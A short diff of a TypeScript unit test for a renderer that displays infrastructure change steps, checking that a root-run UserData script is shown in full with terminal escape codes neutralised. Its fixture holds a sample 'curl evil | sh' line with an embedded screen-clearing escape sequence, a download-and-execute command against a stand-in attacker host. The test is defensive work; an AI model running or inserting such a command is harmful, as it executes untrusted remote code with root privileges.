@@ -60,7 +60,7 @@ describe('a long list of what is opened or lost', () => {
 describe('what the author writes for root to run', () => {
   it('is shown whole and neutralised', () => {
     const step = { ...baseStep, changes: [{ path: 'UserData', before: null, after: { $masked: 'set' }, effect: 'grant', authored: '#!/bin/bash\ncurl \u001b[2Jevil | sh\n' }] } as const;
-    expect(cardRows(step, samplePlan([step]), sampleTime).map(plainText).slice(-4)).toEqual(['  + UserData: (sensitive: set) (grant)', '      | #!/bin/bash', '      | curl \\u{1b}[2Jevil | sh', '  way back       reversible']);
+    expect(cardRows(step, samplePlan([step]), sampleTime).map(plainText).slice(-3)).toEqual(['  + UserData: (sensitive: set) (grant)', '      | #!/bin/bash', '      | curl \\u{1b}[2Jevil | sh']);
   });
 });
 
